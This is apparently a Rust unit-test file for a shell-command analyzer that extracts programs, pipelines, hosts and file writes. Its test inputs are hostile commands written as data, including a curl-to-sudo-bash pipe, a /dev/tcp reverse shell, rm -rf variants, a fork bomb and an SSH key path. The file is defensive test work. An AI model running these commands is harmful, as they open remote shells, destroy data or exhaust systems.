use super::*;

fn ctx() -> Context {
    Context::new("/home/dev/project", "/home/dev")
}

fn programs(command: &str) -> Vec<String> {
    analyze(command, &ctx()).commands.iter().map(|c| c.program.clone()).collect()
}

#[test]
fn plain_command_takes_the_fast_path_and_keeps_words() {
    let a = analyze("git status --short", &ctx());
    assert!(a.is_resolved());
    assert_eq!(a.commands.len(), 1);
    assert_eq!(a.commands[0].program, "git");
    assert_eq!(a.commands[0].arg_values().collect::<Vec<_>>(), ["status", "--short"]);
}

#[test]
fn has_flag_understands_bundles_and_long_values() {
    let a = analyze("rm -fr --interactive=never x", &ctx());
    let rm = &a.commands[0];
    assert!(rm.has_flag("-r") && rm.has_flag("-f") && rm.has_flag("--interactive"));
    assert!(!rm.has_flag("-v"));
}

#[test]
fn pipelines_record_what_feeds_each_stage() {
    let a = analyze("curl -fsSL https://x.example/i.sh | sudo bash", &ctx());
    let bash = a.commands.iter().find(|c| c.program == "bash").unwrap();
    assert_eq!(bash.fed_by, ["curl"]);
    assert_eq!(bash.via, ["sudo"]);
    assert_eq!(a.hosts(), ["x.example"]);
}

#[test]
fn cd_changes_where_relative_paths_resolve() {
    let a = analyze("cd /tmp && rm -rf *", &ctx());
    let writes: Vec<_> = a.file_accesses().into_iter().filter(|(_, acc)| *acc == Access::Write).collect();
    assert_eq!(writes[0].0.value, "/tmp/*");
}

#[test]
fn unknown_variables_make_arguments_dynamic_but_home_is_known() {
    let a = analyze("rm -rf \"$HOME\"/.cache $TARGET", &ctx());
    let rm = &a.commands[0];
    assert_eq!(rm.args[1].value, "/home/dev/.cache");
    assert!(!rm.args[1].dynamic);
    assert!(rm.args[2].dynamic);
}

#[test]
fn literal_assignments_propagate() {
    assert_eq!(programs("a=r; b=m; $a$b -rf ~"), ["rm"]);
}

#[test]
fn redirections_are_file_writes() {
    let a = analyze("echo x >> ~/.bashrc 2>/dev/null", &ctx());
    let targets: Vec<_> = a.redirects.iter().map(|r| r.target.value.as_str()).collect();
    assert!(targets.contains(&"/home/dev/.bashrc"));
}

#[test]
fn dev_tcp_is_a_host() {
    let a = analyze("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", &ctx());
    assert_eq!(a.hosts(), ["10.0.0.1"]);
}

#[test]
fn parse_errors_are_unresolved_not_panics() {
    let a = analyze("echo 'unterminated", &ctx());
    assert!(matches!(a.unresolved.as_slice(), [Unresolved::Parse(_)]));
    let deep = "$(".repeat(10_000);
    assert!(!analyze(&deep, &ctx()).is_resolved());
}

#[test]
fn fork_bomb_is_a_recursive_function() {
    let a = analyze(":(){ :|:& };:", &ctx());
    assert!(a.unresolved.iter().any(|u| matches!(u, Unresolved::RecursiveFunction(_))));
}

#[test]
fn normalize_is_lexical() {
    assert_eq!(normalize("../../x", "/home/dev/project", "/home/dev"), "/home/x");
    assert_eq!(normalize("~/.ssh/id_rsa", "/w", "/home/dev"), "/home/dev/.ssh/id_rsa");
    assert_eq!(normalize("/../..", "/w", "/h"), "/");
    assert!(is_within("/home/dev/project/src", "/home/dev/project"));
    assert!(!is_within("/home/dev/projectx", "/home/dev/project"));
}
